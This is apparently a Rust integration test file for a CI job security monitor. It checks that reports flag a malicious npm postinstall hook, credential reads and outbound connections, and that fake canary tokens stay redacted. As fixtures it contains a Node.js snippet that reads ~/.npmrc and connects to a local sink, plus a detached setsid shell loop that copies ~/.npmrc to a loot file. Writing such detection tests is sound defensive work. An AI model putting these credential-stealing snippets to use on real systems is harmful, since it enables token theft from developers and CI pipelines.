//! Post-job reports, end to end: a job bounded by the runner's hooks, with a real npm install
//! whose postinstall steals and calls out, and canary tokens on command lines; the agent writes
//! JSON, Markdown (also to GITHUB_STEP_SUMMARY) and HTML when the job-completed hook runs; the
//! HTML renders in headless Chromium without a request leaving the file; `monitor report`
//! rebuilds the same report from the event log.

use std::{os::unix::fs::PermissionsExt as _, path::Path, process::Command};

use integration_tests::{monitor_cli, sink, Agent, FakeRunner, Value, STRICT_PROFILE};

/// Tokens in the shapes of GitHub, npm, AWS and PyPI credentials (none is real).
fn canaries() -> Vec<String> {
    vec![
        format!("ghp_{}", "C4n4ryGh".repeat(5)),
        format!("npm_{}", "C4n4ryNpm".repeat(4)),
        "AKIAC4N4RYC4N4RY0000".to_string(),
        format!("pypi-AgEIcHlwaS5vcmc{}", "C4n4ryPy".repeat(8)),
    ]
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Every URL the page or the browser asked for, from Chromium's net log.
fn requested_urls(netlog: &Path) -> Vec<String> {
    let log: Value = serde_json::from_str(&std::fs::read_to_string(netlog).unwrap()).unwrap();
    let mut urls: Vec<String> = log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["params"]["url"].as_str().map(str::to_string))
        .collect();
    urls.sort();
    urls.dedup();
    urls
}

/// Renders `page` in headless Chromium, in a network namespace of its own (nothing can leave
/// the machine), returning the DOM and the URLs requested other than Chromium's own update and
/// account services.
fn render(page: &Path, work: &Path) -> (String, Vec<String>) {
    let netlog = work.join(format!(
        "{}.netlog.json",
        page.file_name().unwrap().to_string_lossy()
    ));
    let out = Command::new("unshare")
        .arg("--net")
        .arg("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--disable-extensions",
        ])
        .arg(format!(
            "--user-data-dir={}",
            work.join("chromium-profile").display()
        ))
        .arg(format!("--log-net-log={}", netlog.display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", page.display()))
        .output()
        .expect(
            "chromium not found: install Debian's `chromium` package (`cargo xtask setup` does)",
        );
    assert!(
        out.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let browser_own = [
        "://clients2.google.com/",
        "://update.googleapis.com/",
        "://accounts.google.com/",
    ];
    let urls = requested_urls(&netlog)
        .into_iter()
        .filter(|u| !browser_own.iter().any(|b| u.contains(b)))
        .collect();
    (String::from_utf8_lossy(&out.stdout).into_owned(), urls)
}

#[test]
fn job_report_is_written_at_job_end_rendered_and_rebuilt_without_secrets() {
    let mut agent = Agent::start_with_profile(STRICT_PROFILE);
    let runner = FakeRunner::new();
    let port = sink();
    std::fs::write(
        runner.home.join(".npmrc"),
        format!("//registry.example.invalid/:_authToken={}\n", canaries()[1]),
    )
    .unwrap();
    let steal = format!(
        "const fs=require('fs'),net=require('net'),os=require('os');\
         const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\
         const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
    );
    let tgz = runner.evil_npm_package(&steal);
    let c = canaries();
    let job_output = runner.run_job_with_hooks(
        &[
            ("__run", &format!("npm install --offline --no-audit --no-fund {}\n", tgz.display())),
            (
                "publish",
                &format!(
                    "/bin/true --token {} https://user:{}@example.invalid/x AWS_ACCESS_KEY_ID={} --password {}\n",
                    c[0], c[1], c[2], c[3]
                ),
            ),
        ],
        Some(&agent.control_socket),
    );

    // Written by the time the job-completed hook returned.
    let reports = agent.dir.path().join("reports");
    assert_eq!(mode(&reports), 0o700, "reports directory is owner-only");
    let stem = agent
        .report_path(&runner)
        .unwrap_or_else(|| {
            panic!(
                "no JSON report for run {} in {}\njob:\n{job_output}\nagent:\n{}",
                runner.run_id,
                reports.display(),
                agent.log()
            )
        })
        .with_extension("");
    let json_path = stem.with_extension("json");
    let (md_path, html_path) = (stem.with_extension("md"), stem.with_extension("html"));
    for p in [&json_path, &md_path, &html_path] {
        assert_eq!(mode(p), 0o600, "{} is owner-only", p.display());
    }
    let report: Value =
        serde_json::from_str(&std::fs::read_to_string(&json_path).unwrap()).unwrap();
    assert_eq!(report["schema"], 1);
    assert_eq!(
        report["job"]["run_id"].as_str(),
        Some(runner.run_id.as_str())
    );
    assert!(
        report["ended"].is_string(),
        "ended by the hook: {}",
        report["ended"]
    );
    assert_eq!(report["complete"], true, "{}", report["incomplete_because"]);
    assert_eq!(report["drops"]["kernel_ring_full"], 0);
    let steps = report["steps"].as_array().unwrap();
    let install = steps
        .iter()
        .find(|s| s["step"]["id"] == "__run")
        .expect("the install step");
    let argvs: Vec<String> = install["processes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["argv"].to_string())
        .collect();
    assert!(
        argvs
            .iter()
            .any(|a| a.contains("npm") && a.contains("install")),
        "{argvs:?}"
    );
    assert!(argvs.iter().any(|a| a.contains("steal.js")), "{argvs:?}");
    assert!(install["processes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["exit_code"] == 0 && p["ended"].is_string()));
    let hook = &install["hooks"][0];
    assert_eq!(
        (
            hook["package"].as_str(),
            hook["script"].as_str(),
            hook["allowed_by_profile"].as_bool()
        ),
        (Some("evil-pkg"), Some("postinstall"), Some(false))
    );
    let conn = install["connections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["port"].as_u64() == Some(port as u64))
        .expect("the connection to the sink");
    assert_eq!(conn["allowed"], false);
    assert!(!conn["findings"].as_array().unwrap().is_empty());
    let files = install["file_accesses"].as_array().unwrap();
    assert!(
        files
            .iter()
            .any(|f| f["path"].as_str().unwrap().ends_with("/.npmrc")
                && !f["findings"].as_array().unwrap().is_empty()),
        "{files:?}"
    );
    let rules: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for r in ["lifecycle-hook", "credential-read", "unexpected-egress"] {
        assert!(rules.contains(&r), "{r} missing from {rules:?}");
    }
    assert!(report["profile_additions"]
        .as_str()
        .unwrap()
        .contains(&format!("127.0.0.1:{port}")));

    // Markdown: short, with the findings, appended to the step summary by the hook.
    let md = std::fs::read_to_string(&md_path).unwrap();
    assert!(
        md.len() < 64 * 1024 && md.contains("credential-read") && md.contains("evil-pkg"),
        "{md}"
    );
    let summary = std::fs::read_to_string(runner.step_summary())
        .expect("GITHUB_STEP_SUMMARY written by the hook");
    assert_eq!(summary, md);

    // HTML: renders, shows the findings, asks for nothing.
    let html = std::fs::read_to_string(&html_path).unwrap();
    let (dom, urls) = render(&html_path, agent.dir.path());
    assert!(
        dom.contains("credential-read") && dom.contains("evil-pkg") && dom.contains("finding-"),
        "findings not in the rendered page"
    );
    assert!(
        urls.iter().all(|u| u.starts_with("file://")),
        "the report made requests: {urls:?}"
    );
    // The check above catches a page that does make a request (a control, without the CSP).
    let control = agent.dir.path().join("control.html");
    std::fs::write(
        &control,
        format!("<!DOCTYPE html><p>x</p><img src=\"http://127.0.0.1:{port}/leak.png\">"),
    )
    .unwrap();
    let (_, control_urls) = render(&control, agent.dir.path());
    assert!(
        control_urls.iter().any(|u| u.contains("leak.png")),
        "net log misses page requests: {control_urls:?}"
    );

    // No canary token anywhere: reports, step summary, event and finding logs.
    let events_log = std::fs::read_to_string(&agent.events_path).unwrap();
    let findings_log = std::fs::read_to_string(&agent.findings_path).unwrap();
    let json = std::fs::read_to_string(&json_path).unwrap();
    assert!(
        events_log.contains("[REDACTED]"),
        "the canaries were on command lines"
    );
    for token in &c {
        for (what, text) in [
            ("json", &json),
            ("md", &md),
            ("html", &html),
            ("summary", &summary),
            ("events", &events_log),
            ("findings", &findings_log),
        ] {
            assert!(
                !text.contains(token.as_str()),
                "{token} leaked into the {what}"
            );
        }
    }

    // `monitor report` rebuilds it from the event log (losses unknown there, and it says so).
    agent.stop();
    let strict = agent.dir.path().join("strict.yml");
    std::fs::write(&strict, STRICT_PROFILE).unwrap();
    let out = monitor_cli(&[
        "report",
        &runner.run_id,
        "--format",
        "json",
        "--profile",
        strict.to_str().unwrap(),
        "--events",
        agent.events_path.to_str().unwrap(),
    ]);
    let rebuilt: Value = serde_json::from_str(&out).unwrap();
    let rebuilt_rules: Vec<&str> = rebuilt["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rebuilt_rules, rules, "the same findings, in the same order");
    assert_eq!(
        rebuilt["summary"]["processes"],
        report["summary"]["processes"]
    );
    assert_eq!(rebuilt["complete"], false);
    assert!(rebuilt["incomplete_because"]
        .to_string()
        .contains("unknown"));
}

/// A step leaves a process behind that escapes the job (`setsid`, as a daemon does past the
/// runner's clean-up) and steals once the job-completed hook has written the report "complete,
/// no findings". The report is written again with the theft and says it is not complete.
#[test]
fn a_theft_after_the_jobs_end_is_added_to_its_report() {
    let agent = Agent::start_with_profile(STRICT_PROFILE);
    let runner = FakeRunner::new();
    let canary = &canaries()[1];
    std::fs::write(
        runner.home.join(".npmrc"),
        format!("//registry.example.invalid/:_authToken={canary}\n"),
    )
    .unwrap();
    let loot = runner.home.join("loot.txt");
    let go = runner.home.join("go");
    let output = runner.run_job_with_hooks(
        &[(
            "build",
            &format!(
                "setsid sh -c 'i=0; while [ ! -e {go} ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; cat \"$HOME/.npmrc\" > {loot}' </dev/null >/dev/null 2>&1 &\necho left behind\n",
                go = go.display(),
                loot = loot.display()
            ),
        )],
        Some(&agent.control_socket),
    );
    assert!(output.contains("left behind"), "{output}");
    let first = agent.wait_for_report(&runner);
    assert!(
        first["findings"].as_array().unwrap().is_empty() && first["complete"] == true,
        "the job itself did nothing wrong: {first:#}"
    );
    // The job is over; now the process it left behind acts.
    std::fs::write(&go, "").unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !std::fs::read_to_string(&loot).is_ok_and(|t| t.contains(canary.as_str())) {
        assert!(
            std::time::Instant::now() < deadline,
            "the token was not stolen"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let again = loop {
        let report = agent.wait_for_report(&runner);
        if report["late_findings"].as_u64().unwrap_or(0) > 0 {
            break report;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the report was not written again: {report:#}\n{}\nfindings: {:#?}",
            agent.log(),
            agent.findings()
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    let findings = again["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["rule"] == "credential-read"
            && f["step"]["id"] == "build"
            && f["evidence"]["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("/.npmrc"))),
        "the theft, in the step that left the process behind: {again:#}"
    );
    assert_eq!(again["complete"], false);
    assert!(
        again["incomplete_because"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w.as_str().unwrap().contains("after the job ended")),
        "{again:#}"
    );
    assert_eq!(
        again["summary"]["findings"].as_u64(),
        Some(findings.len() as u64)
    );
    // The Markdown and HTML beside it say the same.
    let json = agent.report_path(&runner).unwrap();
    let md = std::fs::read_to_string(json.with_extension("md")).unwrap();
    assert!(
        md.contains("credential-read") && md.contains("after the job ended"),
        "{md}"
    );
    let html = std::fs::read_to_string(json.with_extension("html")).unwrap();
    assert!(html.contains("credential-read"));
    // Nothing of the token in any of them.
    for text in [serde_json::to_string(&again).unwrap(), md, html] {
        assert!(!text.contains(canary.as_str()));
    }
}
